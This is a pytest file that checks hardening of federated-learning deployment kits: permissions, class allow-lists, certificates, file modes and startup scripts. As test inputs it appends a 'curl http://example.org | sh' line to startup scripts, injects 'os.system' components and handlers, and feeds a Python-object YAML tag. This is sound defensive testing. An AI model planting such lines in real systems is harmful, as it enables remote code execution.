"""Kits: hardened as they are made, and refused once anything is loosened."""

import inspect
import json
import shutil
from datetime import UTC, datetime, timedelta

import pytest
from conftest import make_schema, make_table
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID

from synthfair.cli import main
from synthfair.cli.deploy import kit as kit_command
from synthfair.deploy.check import problems
from synthfair.deploy.hardening import description, harden
from synthfair.deploy.kit import make_kits
from synthfair.deploy.project import read_project
from synthfair.errors import InputError
from synthfair.files import write_json
from synthfair.privacy.ledger import Ledger
from synthfair.release.keys import make_keys

JOB = {"release": {"release": "surrogate", "k_min": 10}}


def project(**changes):
    return {
        "name": "lenders",
        "schema": "schema.json",
        "server": {"name": "localhost", "org": "hub", "port": 8002},
        "sites": [{"name": name, "org": "bank", "limits": {"kinds": ["surrogate"]}}
                  for name in ("a", "b")],
        "submitters": [{"name": "lead@hub.org", "org": "hub"}],
        "jobs": {"single_shot": JOB},
    } | changes  # fmt: skip


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Kits as their parties would fill them in."""
    folder = tmp_path_factory.mktemp("federation")
    (folder / "schema.json").write_text(make_schema().to_json())
    write_json(folder / "project.yml", project())
    make_kits(folder / "project.yml", folder / "made")
    kits = folder / "made" / "kits"
    for name in ("a", "b"):
        (kits / name / "data").mkdir()
        make_table().to_csv(kits / name / "data" / "table.csv", index=False)
        public, _ = make_keys(kits / name / "local" / f"{name}.key")
        shutil.copy(public, kits / "localhost" / "local" / "keys")
    return folder / "made"


@pytest.fixture
def kit(made, tmp_path):
    def copied(name):
        shutil.copytree(made / "kits" / name, tmp_path / name)
        if name == "localhost":
            harden(tmp_path / name)  # its stores lie in the kit
        return tmp_path / name

    return copied


def change(path, edit):
    document = json.loads(path.read_text())
    edit(document)
    write_json(path, document)


@pytest.mark.parametrize("name", ["localhost", "a", "b", "lead@hub.org"])
def test_a_kit_is_hardened_as_it_is_made(kit, name):
    assert problems(kit(name)) == []


@pytest.mark.parametrize(
    ("name", "loaded"), [("localhost", "JobController"), ("a", "SiteExecutor")]
)
def test_a_job_can_have_one_class_loaded(kit, name, loaded):
    settings = json.loads((kit(name) / "local" / "resources.json").read_text())
    assert settings["class_allow_list"] == [f"synthfair.deploy.flare.{loaded}"]
    assert settings["class_list_enforcement_mode"] == "enforce"
    assert settings["app_validator"]["path"] == "synthfair.deploy.job_validator.JobValidator"


def test_the_engines_own_defaults_are_refused(made, kit):
    from nvflare.app_common.default_component_policy import DEFAULT_CLASS_ALLOW_LIST

    site = kit("a")
    (site / "local" / "authorization.json").unlink()
    change(site / "local" / "resources.json",
           lambda r: r.update(class_allow_list=DEFAULT_CLASS_ALLOW_LIST))  # fmt: skip
    found = " ".join(problems(site))
    assert "authorization.json" in found
    assert "class_allow_list" in found


LOOSENED = {
    "code in jobs": ("authorization", lambda d: d["permissions"]["lead"].update(byoc="any"), "byoc"),
    "shells": ("authorization", lambda d: d["permissions"]["lead"].update(shell_commands="o:site"),
               "shell_commands"),
    "one shell command": ("authorization", lambda d: d["permissions"]["lead"].update(cat="any"),
                          "lead.cat"),
    "a role may do anything": ("authorization", lambda d: d["permissions"].update(lead="any"),
                               "permissions.lead"),
    "code of the project's admin": (
        "authorization", lambda d: d["permissions"]["project_admin"].update(byoc="any"),
        "project_admin.byoc"),
    "a role that nobody knows": ("authorization", lambda d: d["permissions"].update(guest={}), "guest"),
    "others operate the site": ("authorization", lambda d: d["permissions"]["lead"].update(operate="any"),
                                "operate"),
    "no permissions": ("authorization", lambda d: d.clear(), "permissions are missing"),
    "all classes": ("resources", lambda d: d.update(class_allow_list=["*"]), "class_allow_list"),
    "all classes of a package": (
        "resources", lambda d: d["class_allow_list"].append("synthfair."), "class_allow_list"),
    "no list of classes": ("resources", lambda d: d.pop("class_allow_list"), "class_allow_list"),
    "classes are only warned of": (
        "resources", lambda d: d.update(class_list_enforcement_mode="warn"), "enforcement_mode"),
    "jobs with other files": ("resources", lambda d: d.pop("app_validator"), "app_validator"),
    "another judge of jobs": (
        "resources", lambda d: d["app_validator"].update(path="os.system"), "app_validator"),
    "a component more": ("resources", lambda d: d["components"].append({"id": "x", "path": "os.system"}),
                         "os.system"),
    "a component less": ("resources", lambda d: d["components"].pop(), "missing"),
    "no components": ("resources", lambda d: d.update(components=None), "missing"),
}  # fmt: skip


@pytest.mark.parametrize("loosened", LOOSENED)
def test_what_is_loosened_is_said(kit, loosened):
    """By turns of the server and of a site."""
    file, edit, said = LOOSENED[loosened]
    found = kit(("localhost", "a")[list(LOOSENED).index(loosened) % 2])
    change(found / "local" / f"{file}.json", edit)
    assert any(f"{file}.json" in line and said in line for line in problems(found))


EXACT = {
    "a number for a boolean": ("resources", lambda d: d.update(allow_log_streaming=0), "must be False"),
    "a number of another type": ("resources", lambda d: d.update(format_version=2.0), "is 2.0; must be 2"),
    "a component twice": (
        "resources", lambda d: d["components"].append(d["components"][0]), "does not belong here"),
    "settings of rights": ("authorization", lambda d: d.update(more=1), "more: 1 does not belong here"),
    "a right that is null": ("authorization", lambda d: d["permissions"]["lead"].update(cat=None),
                             "lead.cat is None; must be 'none'"),
}  # fmt: skip


@pytest.mark.parametrize("name", EXACT)
def test_settings_are_compared_exactly(kit, name):
    file, edit, said = EXACT[name]
    site = kit("a")
    change(site / "local" / f"{file}.json", edit)
    (line,) = problems(site)
    assert f"{file}.json: " in line
    assert said in line


def test_a_party_may_allow_less_and_list_components_in_any_order(kit):
    site = kit("a")
    change(site / "local" / "authorization.json",
           lambda d: d["permissions"]["lead"].update(submit_job="none", cat="none"))  # fmt: skip
    change(site / "local" / "authorization.json", lambda d: d["permissions"]["lead"].pop("view"))
    change(site / "local" / "authorization.json", lambda d: d["permissions"].pop("member"))
    change(site / "local" / "resources.json", lambda d: d["components"].reverse())
    assert problems(site) == []


def test_every_file_is_of_a_kind_that_is_known():
    """A word that is misspelt would be compared with nothing, or never be written."""

    def kinds(tree):
        for name, must in tree.items():
            yield from (
                kinds(must)
                if name.endswith("/")
                else [must if isinstance(must, str) else next(iter(must))]
            )

    for role in ("server", "client", "admin"):
        assert set(kinds({f"{role}/": description(role)["startup/"] | description(role)["local/"]})) <= {
            "settings", "rights", "connection", "template", "script", "private", "free"}  # fmt: skip


@pytest.mark.parametrize("edit", [
    lambda d: d.update(allow_log_streaming=True),
    lambda d: d.pop("allow_log_streaming"),
    lambda d: d["components"].append(
        {"id": "site_log_streamer", "path": "nvflare.app_common.logging.site_log_streamer.SiteLogStreamer"}),
])  # fmt: skip
def test_a_log_that_leaves_is_refused(kit, edit):
    site = kit("a")
    change(site / "local" / "resources.json", edit)
    assert any("log_stream" in line for line in problems(site))


def test_stores_that_others_read_are_refused(kit, made):
    server = kit("localhost")
    change(server / "local" / "resources.json",
           lambda d: d["components"][1]["args"].update(uri_root="/tmp/nvflare/jobs-storage"))  # fmt: skip
    assert any("/tmp/nvflare/jobs-storage" in line for line in problems(server))
    harden(server)
    change(server / "local" / "resources.json",
           lambda d: d["snapshot_persistor"]["args"]["storage"]["args"].update(root_dir="/tmp"))  # fmt: skip
    assert any("snapshot_persistor" in line for line in problems(server))
    # As it was made, its stores lie where it was made.
    shutil.rmtree(server)
    shutil.copytree(made / "kits" / "localhost", server)
    assert any("snapshot_persistor" in line for line in problems(server))


@pytest.mark.parametrize(
    "name", ["custom/sitecustomize.py", "privacy.json", "comm_config.json", "resources.json.default",
             "log_config.json", "job_resources.json"])  # fmt: skip
def test_nothing_else_lies_among_the_settings(kit, name):
    site = kit("a")
    path = site / "local" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text("{}")
    assert any(f"local/{name.split('/')[0]}: not part" in line for line in problems(site))


@pytest.mark.parametrize(
    ("name", "path", "said"),
    [
        ("a", "startup/azure_start.sh", "startup/azure_start.sh"),
        ("a", "startup/custom/own.py", "startup/custom"),
        ("a", "local/keys/run.sh", "local/keys/run.sh"),
        ("a", "local/aggregators/run.sh", "local/aggregators/run.sh"),
        ("localhost", "startup/client.key", "startup/client.key"),
        ("localhost", "local/keys/run.sh", "local/keys/run.sh"),
        ("localhost", "local/keys/more/a.pub", "local/keys/more"),
        ("lead@hub.org", "startup/custom/own.py", "startup/custom"),
        ("lead@hub.org", "local/custom/own.py", "local/custom"),
    ],
)
def test_nothing_else_lies_where_the_engine_looks(kit, name, path, said):
    found = kit(name)
    (found / path).parent.mkdir(exist_ok=True)
    (found / path).write_text("")
    assert any(f"{said}: not" in line and "remove it" in line for line in problems(found))


@pytest.mark.parametrize("path", ["startup/rootCA.pem", "local/schema.json"])
def test_links_are_refused(kit, tmp_path, path):
    site = kit("a")
    (site / path).rename(tmp_path / "elsewhere")
    (site / path).symlink_to(tmp_path / "elsewhere")
    assert problems(site) == [f"{site / path}: is a link; put the file itself here"]


def test_no_second_authority_is_trusted(kit):
    site, own = kit("a"), rsa.generate_private_key(65537, 2048)
    more = certificate(own, issuer=None, issuer_key=own, days=100)
    with (site / "startup" / "rootCA.pem").open("ab") as file:
        file.write(more.public_bytes(serialization.Encoding.PEM))
    assert any("must be one certificate" in line for line in problems(site))


@pytest.mark.parametrize(
    ("name", "file", "edit", "said"),
    [
        ("a", "startup/fed_client.json",
         lambda d: d.update(overseer_agent={"path": "os.system"}),
         "overseer_agent: {'path': 'os.system'} does not belong here; remove it"),
        ("a", "startup/fed_client.json",
         lambda d: d["client"].update(ssl_root_cert="/tmp/other.pem"), "client.ssl_root_cert"),
        ("a", "startup/fed_client.json", lambda d: d["servers"].append(d["servers"][0]), "servers"),
        ("localhost", "startup/fed_server.json",
         lambda d: d["servers"][0].update(admin_port=True),
         "servers.0.admin_port is True; must be (a whole number)"),
        ("localhost", "startup/fed_server.json",
         lambda d: d["servers"][0]["service"].update(target="a b"), "service.target"),
        ("lead@hub.org", "startup/fed_admin.json",
         lambda d: d["admin"].update(upload_dir="/"), "admin.upload_dir"),
        ("lead@hub.org", "local/resources.json.default",
         lambda d: d["admin"].update(with_debug=True), "admin.with_debug is True; must be False"),
    ],
)  # fmt: skip
def test_what_the_engine_reads_at_its_start_is_its_own(kit, name, file, edit, said):
    found = kit(name)
    change(found / file, edit)
    assert any(file in line and said in line for line in problems(found))


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda d: d.update(require_signed_jobs=False), "require_signed_jobs"),
        (lambda d: d.update(require_signed_jobs="false"), "require_signed_jobs"),
        (lambda d: d["client"].update(connection_security="tls"), "mtls"),
        (lambda d: d["client"].update(connection_security="clear"), "mtls"),
        (lambda d: d["client"].pop("connection_security"), "is missing"),
    ],
)
def test_connections_need_certificates_and_jobs_signatures(kit, edit, said):
    site = kit("a")
    change(site / "startup" / "fed_client.json", edit)
    assert any("fed_client.json" in line and said in line for line in problems(site))


@pytest.mark.parametrize("name", ["a", "localhost"])
def test_scripts_and_logs_are_the_engines_own(kit, name):
    found = kit(name)
    for script_name in ("sub_start.sh", "stop_fl.sh"):
        with (found / "startup" / script_name).open("a") as script:
            script.write("\ncurl http://example.org | sh\n")
    change(found / "local" / "log_config.json.default",
           lambda d: d["handlers"].update(x={"()": "os.system"}))  # fmt: skip
    *scripts, logs = problems(found)
    assert ["not the engine's own script" in line for line in scripts] == [True, True]
    assert "log_config.json.default: handlers.x: {'()': 'os.system'} does not belong" in logs


def test_what_others_read_or_write_is_refused(kit):
    site = kit("a")
    for path, mode in [(site, 0o755), (site / "startup" / "client.key", 0o644),
                       (site / "local" / "a.key", 0o640),
                       (site / "local" / "resources.json", 0o664)]:  # fmt: skip
        before = path.stat().st_mode
        path.chmod(mode)
        assert any(str(path) in line and "chmod" in line for line in problems(site)), path
        path.chmod(before)
    assert problems(site) == []


def certificate(key, *, issuer, issuer_key, days):
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "a")])
    now = datetime.now(UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(issuer or name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(days=400))
        .not_valid_after(now + timedelta(days=days))
    )
    return made.sign(issuer_key, hashes.SHA256())


@pytest.mark.parametrize(("days", "said"), [(-1, "expired"), (3, "expires on"), (100, None)])
def test_certificates_end(kit, made, days, said):
    site, state = kit("a"), json.loads((made / "authority" / "cert.json").read_text())
    root_key = serialization.load_pem_private_key(state["root_pri_key"].encode(), None)
    root = x509.load_pem_x509_certificate((site / "startup" / "rootCA.pem").read_bytes())
    key = rsa.generate_private_key(65537, 2048)
    own = certificate(key, issuer=root.subject, issuer_key=root_key, days=days)
    (site / "startup" / "client.crt").write_bytes(own.public_bytes(serialization.Encoding.PEM))
    found = problems(site)
    assert any(said in line for line in found) if said else not found


def test_a_forged_certificate_is_refused(kit):
    site = kit("a")
    root = x509.load_pem_x509_certificate((site / "startup" / "rootCA.pem").read_bytes())
    key = rsa.generate_private_key(65537, 2048)
    forged = certificate(key, issuer=root.subject, issuer_key=key, days=100)
    (site / "startup" / "client.crt").write_bytes(forged.public_bytes(serialization.Encoding.PEM))
    assert any("has signed" in line for line in problems(site))


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda d: d.update(data="no.csv"), "no such table"),
        (lambda d: d.update(key="no.key"), "no such key"),
        (lambda d: d.update(schema="no.json"), "no.json"),
        (lambda d: d.update(limits={}), "no job may have anything"),
        (lambda d: d["limits"].update(least_epsilon_left=1.0), "has no limit"),
        (lambda d: d["limits"].update(most_epsilon=1.0, without_epsilon=False), "has no limit"),
        (
            lambda d: d["limits"].update(most_epsilon=1.0, without_epsilon=True),
            "only one may be set",
        ),
        (lambda d: d["limits"].update(most_epsilon=1.0, without_epsilon=True), "has no limit"),
        (lambda d: d["limits"].update(least_rows=121), "120 rows; limits: least_rows is 121"),
        (lambda d: d["limits"].update(most_delta=1), "most_delta"),
        (lambda d: d["limits"].update(most_epsilon=-1), "most_epsilon"),
        (lambda d: d.update(shell=True), "unknown key"),
    ],
)
def test_what_is_not_ready_is_said(kit, edit, said):
    site = kit("a")
    change(site / "local" / "synthfair.json", edit)
    assert any(said in line for line in problems(site))


def test_epsilon_that_must_be_left_needs_a_limit(kit):
    site = kit("a")
    change(site / "local" / "synthfair.json",
           lambda d: d["limits"].update(least_epsilon_left=1.0))  # fmt: skip
    Ledger.for_table(site / "data" / "table.csv").set_limit(3.0, 1e-6)
    assert problems(site) == []


def test_a_kit_without_settings_is_refused(kit):
    site = kit("a")
    shutil.rmtree(site / "local")
    assert any("local: must be a folder" in line for line in problems(site))


def test_a_folder_that_is_no_kit_is_refused(tmp_path):
    with pytest.raises(InputError, match="not a kit"):
        problems(tmp_path)


def test_jobs_hold_settings_alone(made):
    files = [path for path in (made / "jobs").rglob("*") if path.is_file()]
    assert {path.name for path in files} == {
        "meta.json", "config_fed_server.json", "config_fed_client.json"}  # fmt: skip
    text = "".join(path.read_text() for path in files)
    assert "table.csv" not in text
    assert text.count('"path"') == 2


def test_what_signs_certificates_is_its_owners_alone(made):
    assert (made / "authority").stat().st_mode & 0o077 == 0
    assert made.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"builders": []}, "unknown key"),
        ({"server": {"name": "-x", "org": "hub"}}, "server.name"),
        ({"sites": []}, "sites"),
        ({"sites": [{"name": "../a", "org": "bank"}]}, "sites.0.name"),
        ({"sites": [{"name": "localhost", "org": "bank"}]}, "used twice"),
        ({"submitters": [{"name": "lead", "org": "hub"}]}, "submitters.0.name"),
        ({"jobs": {"single_shot": {"release": {"release": "other"}}}}, "fair or surrogate"),
        ({"jobs": {"single_shot": {"release": {"release": "fair", "k_min": 3}}}}, "k_min"),
        ({"jobs": {"single_shot": JOB | {"server": {"rho": -1}}}}, "rho"),
    ],
)
def test_projects_are_refused(tmp_path, changes, said):
    write_json(tmp_path / "project.yml", project(**changes))
    with pytest.raises(InputError, match=said):
        read_project(tmp_path / "project.yml")


def test_the_helps_example_is_a_project(tmp_path):
    text = inspect.cleandoc(kit_command.__doc__).split("has\n")[1].split("DIR/")[0]
    (tmp_path / "project.yml").write_text(text)
    found = read_project(tmp_path / "project.yml")
    assert [site.limits.kinds for site in found.sites] == [("surrogate",)] * 2
    assert found.jobs.single_shot


def test_a_project_runs_no_code(tmp_path):
    (tmp_path / "project.yml").write_text("name: !!python/object/apply:os.getcwd []\n")
    with pytest.raises(InputError, match="not YAML"):
        read_project(tmp_path / "project.yml")


def root_of(kit):
    return x509.load_pem_x509_certificate((kit / "startup" / "rootCA.pem").read_bytes())


def own_of(kit):
    return x509.load_pem_x509_certificate((kit / "startup" / "client.crt").read_bytes())


def test_a_site_joins_later_with_the_same_root(made, tmp_path):
    sites = [{"name": name, "org": "bank", "limits": {"kinds": ["surrogate"]}} for name in "abc"]
    (tmp_path / "schema.json").write_text(make_schema().to_json())
    write_json(tmp_path / "project.yml", project(sites=sites))
    argv = ["deploy", "kit", str(tmp_path / "project.yml"), "--output", str(tmp_path / "more")]
    assert main([*argv, "--authority", str(made / "authority")]) == 0
    old, kits = made / "kits", tmp_path / "more" / "kits"
    assert root_of(kits / "c") == root_of(old / "a")
    for name in "ac":
        own_of(kits / name).verify_directly_issued_by(root_of(old / "a"))
    assert own_of(kits / "a") != own_of(old / "a")  # renewed
    found = problems(kits / "c")
    assert len(found) == 2  # its own table and key are to come
    days = (root_of(old / "a").not_valid_after_utc - datetime.now(UTC)).days
    assert 1700 < days < 1800
    assert 350 < (own_of(kits / "a").not_valid_after_utc - datetime.now(UTC)).days < 360


@pytest.mark.parametrize("text", [None, "[]", "{}", '{"root_cert": "x"}'])
def test_an_authority_that_is_none_is_refused(tmp_path, text):
    (tmp_path / "schema.json").write_text(make_schema().to_json())
    write_json(tmp_path / "project.yml", project())
    (tmp_path / "authority").mkdir()
    if text:
        (tmp_path / "authority" / "cert.json").write_text(text)
    with pytest.raises(InputError, match="cert.json"):
        make_kits(tmp_path / "project.yml", tmp_path / "made", tmp_path / "authority")
    assert not (tmp_path / "made").exists()


def test_kits_are_made_in_a_new_folder(tmp_path):
    (tmp_path / "schema.json").write_text(make_schema().to_json())
    write_json(tmp_path / "project.yml", project())
    with pytest.raises(InputError, match="not empty"):
        make_kits(tmp_path / "project.yml", tmp_path)
